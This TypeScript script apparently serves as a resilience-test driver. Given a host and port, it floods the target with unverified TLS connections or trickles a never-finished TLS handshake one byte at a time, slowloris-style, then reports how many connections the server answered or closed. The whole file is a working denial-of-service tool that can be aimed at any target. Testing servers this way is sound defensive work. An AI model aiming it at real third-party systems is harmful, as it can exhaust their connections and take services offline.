import { connect as connectTcp } from 'node:net';
import { connect as connectTls } from 'node:tls';

/** What an attacker does, as JSON in its first argument. */
export interface AttackOrder {
  /** flood: TLS without a certificate; trickle: a byte of a handshake now and then, or nothing at all. */
  readonly kind: 'flood' | 'trickle';
  readonly host: string;
  readonly port: number;
  readonly connections: number;
  readonly atOnce: number;
}

/** What became of it, as JSON on standard output. */
export interface AttackReport {
  /** Connections on which the other side said anything beyond a handshake. */
  readonly answered: number;
  /** Connections that the other side ended. */
  readonly ended: number;
}

const order: AttackOrder = JSON.parse(process.argv[2] ?? '');
/** The beginning of a TLS record that never becomes a ClientHello. */
const TRICKLED = Buffer.from([0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03]);
const TRICKLE_MS = 1000;

let answered = 0;
let ended = 0;

/** Resolves when the other side has ended it. */
function attempt(index: number): Promise<void> {
  return new Promise((resolve) => {
    const to = { host: order.host, port: order.port };
    const socket =
      order.kind === 'flood'
        ? connectTls({ ...to, rejectUnauthorized: false, ALPNProtocols: ['h2'] })
        : connectTcp(to);
    let sent = 0;
    const timer =
      order.kind === 'trickle' && index % 2 === 0
        ? setInterval(() => socket.write(TRICKLED.subarray(sent, (sent += 1))), TRICKLE_MS)
        : undefined;
    socket.on('data', () => (answered += 1));
    socket.on('error', () => {});
    socket.on('close', () => {
      clearInterval(timer);
      ended += 1;
      resolve();
    });
  });
}

let begun = 0;
await Promise.all(
  Array.from({ length: order.atOnce }, async () => {
    while (begun < order.connections) {
      await attempt((begun += 1));
    }
  }),
);
const report: AttackReport = { answered, ended };
process.stdout.write(`${JSON.stringify(report)}\n`);
